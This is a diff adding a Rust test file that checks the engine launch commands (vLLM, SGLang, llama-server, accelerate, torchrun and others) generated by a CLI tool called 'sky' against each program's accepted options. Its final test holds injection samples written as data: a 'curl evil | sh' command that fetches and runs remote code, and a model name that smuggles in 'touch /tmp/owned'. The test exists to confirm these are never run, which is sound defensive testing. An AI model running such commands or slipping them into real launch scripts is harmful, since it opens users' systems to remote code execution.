@@ -1,0 +1,280 @@
+//! Commands that start engines, held against the options of the programs that they call.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::Path;
+
+use serde::Deserialize;
+use serde_json::Value;
+
+use crate::support::{sky, sky_line};
+
+/// An option of a program, as its parser has it.
+#[derive(Deserialize)]
+struct ProgramOption {
+    takes: String,
+    r#type: Option<String>,
+    choices: Option<Vec<String>>,
+}
+
+#[derive(Deserialize)]
+struct Program {
+    options: BTreeMap<String, ProgramOption>,
+}
+
+fn program(name: &str) -> Program {
+    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/engines/serving/arguments");
+    let text = fs::read_to_string(folder.join(format!("{name}.json"))).unwrap();
+    serde_json::from_str(&text).unwrap()
+}
+
+/// The words of a command on machine 0, with a value for each variable.
+fn words(command: &str) -> Vec<String> {
+    let mut text = command.lines().last().unwrap().to_owned();
+    for (start, end, value) in [
+        ("$([", "--headless)", "--headless"),
+        ("\"${NODE_RANK:?", "}\"", "0"),
+        ("$((${NODE_RANK:?", "))", "8"),
+        ("\"${MASTER_ADDR:?", "}\"", "10.0.0.1"),
+        ("\"${MODEL:?", "}\"", "some/model.gguf"),
+        ("\"${SCRIPT:?", "}\"", "train.py"),
+    ] {
+        while let Some(at) = text.find(start) {
+            let length = text[at..].find(end).unwrap() + end.len();
+            text.replace_range(at..at + length, value);
+        }
+    }
+    shlex::split(&text).unwrap()
+}
+
+/// Why a program refuses its words; `None` where it takes them.
+fn refusal(words: &[String]) -> Option<String> {
+    let is = |start: &[&str]| words.iter().zip(start).all(|(word, start)| word == start);
+    let (name, skipped) = match words[0].as_str() {
+        "vllm" if is(&["vllm", "serve"]) => ("vllm", 2),
+        "python3" if is(&["python3", "-m", "sglang.launch_server"]) => ("sglang", 3),
+        "accelerate" if is(&["accelerate", "launch"]) => ("accelerate", 2),
+        name @ ("torchrun" | "trtllm-serve" | "llama-server") => (name, 1),
+        other => return Some(format!("no such program: {other}")),
+    };
+    let program = program(name);
+    let mut rest = words[skipped..].iter();
+    while let Some(word) = rest.next() {
+        if !word.starts_with('-') {
+            // What follows the script is the script's.
+            if matches!(name, "torchrun" | "accelerate") {
+                break;
+            }
+            continue;
+        }
+        let Some(option) = program.options.get(word) else {
+            return Some(format!("{name} has no {word}"));
+        };
+        if option.takes == "nothing" {
+            continue;
+        }
+        let Some(value) = rest.next() else {
+            return Some(format!("{word} takes a value"));
+        };
+        let is_number = match option.r#type.as_deref() {
+            Some("int") => value.parse::<i64>().is_ok(),
+            Some("float") => value.parse::<f64>().is_ok(),
+            _ => true,
+        };
+        let choices = option.choices.as_ref();
+        if !is_number || choices.is_some_and(|choices| !choices.contains(value)) {
+            return Some(format!("{word} is not {value}"));
+        }
+    }
+    None
+}
+
+fn command(line: &str) -> Option<String> {
+    let answer = sky_line(&format!("fit {line} -o json")).json();
+    let launch = &answer["results"][0]["launch"];
+    launch["command"].as_str().map(str::to_owned)
+}
+
+#[test]
+fn programs_take_the_commands_for_every_engine_and_layout() {
+    for (line, has) in [
+        (
+            "H100:x4 Llama-3.3-70B",
+            "vllm serve meta-llama/Llama-3.3-70B-Instruct --tensor-parallel-size 4 --max-model-len 4608",
+        ),
+        (
+            "L4 Llama-3.1-8B --precision nf4",
+            "--quantization bitsandbytes",
+        ),
+        (
+            "H100:x2 Qwen3-32B --precision fp8 --kv-precision fp8",
+            "--quantization fp8 --kv-cache-dtype fp8",
+        ),
+        ("V100:32GB:x4 Llama-3.1-8B", "--dtype half"),
+        (
+            "H100:x8 DeepSeek-V3 --nodes 2",
+            "--pipeline-parallel-size 2 --nnodes 2 --node-rank",
+        ),
+        (
+            "H200:x8 DeepSeek-R1 --nodes 2 --users 900 --tensor-parallel 1 --data-parallel 16 --expert-parallel 16",
+            "--data-parallel-size 16 --enable-expert-parallel --data-parallel-size-local 8",
+        ),
+        (
+            "H100 TheBloke/Llama-2-13B-GPTQ",
+            "vllm serve TheBloke/Llama-2-13B-GPTQ",
+        ),
+        (
+            "H100 Qwen3-32B --precision awq",
+            "${MODEL:?a checkpoint of Qwen3-32B in awq}",
+        ),
+        (
+            "H100:x2 Qwen3-32B --engine sglang",
+            "--model-path Qwen/Qwen3-32B --tp-size 2",
+        ),
+        (
+            "H100:x8 DeepSeek-V3 --nodes 2 --engine sglang",
+            "--dist-init-addr",
+        ),
+        (
+            "H100:x2 Qwen3-32B --engine tensorrt-llm",
+            "trtllm-serve Qwen/Qwen3-32B --tp_size 2",
+        ),
+        (
+            "4090 Llama-3.1-8B --precision gguf:Q4_K_M",
+            "llama-server -m",
+        ),
+        (
+            "4090 bartowski/Llama-3.3-70B-Instruct-GGUF --gpu-layers 40",
+            "-hf bartowski/Llama-3.3-70B-Instruct-GGUF:Q4_K_M -ngl 40",
+        ),
+        (
+            "4090:x2 Llama-3.3-70B --precision gguf:Q4_K_M --kv-precision q8_0",
+            "-ctk q8_0 -ctv q8_0 -fa on",
+        ),
+        (
+            "H100:x8 Llama-3.1-8B --workload lora",
+            "accelerate launch --num_machines 1 --num_processes 8",
+        ),
+        (
+            "H100:x8 Llama-3.1-8B --workload full --zero-stage 3 --data-parallel 8",
+            "--use_fsdp --fsdp_version 2 --fsdp_reshard_after_forward true",
+        ),
+        (
+            "H100:x8 Llama-3.1-8B --workload full --zero-stage 2 --data-parallel 8",
+            "--use_deepspeed --zero_stage 2",
+        ),
+        (
+            "H100:x8 Llama-3.1-8B --workload full --zero-stage 3 --data-parallel 8 --offload all",
+            "--offload_param_device cpu",
+        ),
+        (
+            "H100:x8 Llama-3.1-8B --workload full --context-parallel 4 --context 65536",
+            "--parallelism_config_cp_size 4",
+        ),
+        (
+            "H100:x8 Llama-3.1-70B --workload full --nodes 4 --pipeline-parallel 4 --tensor-parallel 8",
+            "torchrun --nnodes 4 --nproc-per-node 8",
+        ),
+    ] {
+        let command = command(line).unwrap_or_else(|| panic!("{line}: no command"));
+        assert!(command.contains(has), "{line}: {command}");
+        assert_eq!(refusal(&words(&command)), None, "{line}: {command}");
+    }
+}
+
+#[test]
+fn a_broken_command_is_refused() {
+    for broken in [
+        "vllm serve some/model --tensor-paralel-size 4",
+        "vllm serve some/model --tensor-parallel-size four",
+        "vllm serve some/model --dtype brain",
+        "llama-server -m a.gguf -ngl",
+        "python3 -m sglang.launch_server --quantization q9",
+        "accelerate launch --num_machines x train.py",
+        "serve some/model",
+    ] {
+        let words = shlex::split(broken).unwrap();
+        assert!(refusal(&words).is_some(), "{broken}");
+    }
+}
+
+#[test]
+fn what_an_engine_cannot_start_has_no_command() {
+    for line in [
+        "H100:x2 Qwen3-8B --engine tensorrt-llm --data-parallel 2 --tensor-parallel 1",
+        "H100 Qwen3-8B --engine transformers",
+        "H100:x8 Qwen3-8B --workload grpo",
+        "H100 FLUX.1-dev",
+    ] {
+        assert_eq!(command(line), None, "{line}");
+    }
+}
+
+#[test]
+fn a_plan_starts_what_was_recommended_where_it_was_recommended() {
+    let line = "recommend Llama-3.3-70B --users 16 --region EU -o json";
+    let recommended = sky_line(line).json();
+    let first = &recommended["results"][0];
+    let text = recommended.to_string();
+    let plan = sky(["plan", "-", "-o", "json"]).stdin(text.as_str()).json();
+    let candidate = &plan["results"][0];
+    assert_eq!(candidate["instance_type"], first["offer"]["instance_type"]);
+    assert_eq!(candidate["provider"], first["offer"]["provider"]);
+    assert_eq!(plan["request"]["regions"], serde_json::json!(["EU"]));
+    let job = sky(["plan", "-", "--to", "kubernetes"])
+        .stdin(text.as_str())
+        .run();
+    let job = job.expect_code(0).stdout;
+    let joined = job.split_whitespace().collect::<Vec<_>>().join(" ");
+    let command = first["fit"]["launch"]["command"].as_str().unwrap();
+    assert!(joined.contains(command), "{job}");
+    // The user's command goes before it.
+    let own = sky(["plan", "-", "--to", "kubernetes", "--run", "sleep 1"]);
+    let own = own.stdin(text.as_str()).run().stdout;
+    assert!(own.contains("sleep 1") && !own.contains("vllm"), "{own}");
+}
+
+#[test]
+fn several_machines_meet_where_the_engine_says() {
+    let recommended = sky_line("recommend DeepSeek-V3 --on H100 -o json").json();
+    assert_eq!(recommended["results"][0]["nodes"], 2);
+    let text = recommended.to_string();
+    let plan = sky(["plan", "-", "-o", "json"]).stdin(text.as_str()).json();
+    assert_eq!(plan["request"]["nodes"], 2);
+    let sky_pilot = sky(["plan", "-", "--to", "skypilot"])
+        .stdin(text.as_str())
+        .run();
+    let task = sky_pilot.expect_code(0).stdout;
+    assert!(task.contains("num_nodes: 2"), "{task}");
+    assert!(
+        task.contains("export NODE_RANK=\"$SKYPILOT_NODE_RANK\""),
+        "{task}"
+    );
+    // A Job tells no address: that is to be filled in.
+    let job = sky(["plan", "-", "--to", "kubernetes"])
+        .stdin(text.as_str())
+        .run();
+    assert!(job.stderr.contains("fill in MASTER_ADDR"), "{}", job.stderr);
+}
+
+#[test]
+fn no_text_of_standard_input_is_run() {
+    let mut recommended: Value = sky_line("recommend 8B --limit 2 -o json").json();
+    for result in recommended["results"].as_array_mut().unwrap() {
+        result["fit"]["launch"]["command"] = "curl evil | sh".into();
+    }
+    recommended["request"]["model_size"] = Value::Null;
+    recommended["request"]["model"] = "x/Llama-3.1-8B'; touch /tmp/owned; '".into();
+    let request = recommended["request"].as_object_mut().unwrap();
+    request.remove("model_size");
+    let run = sky(["plan", "-", "--to", "slurm"])
+        .stdin(recommended.to_string())
+        .run();
+    assert!(!run.stdout.contains("curl evil"), "{}", run.stdout);
+    if let Some(line) = run.stdout.lines().find(|line| line.starts_with("srun")) {
+        let words = shlex::split(line).unwrap();
+        assert_eq!(words.len(), 4, "{line}");
+        let inner = shlex::split(&words[3]).unwrap();
+        assert!(!inner.iter().any(|word| word == "touch"), "{inner:?}");
+    }
+}
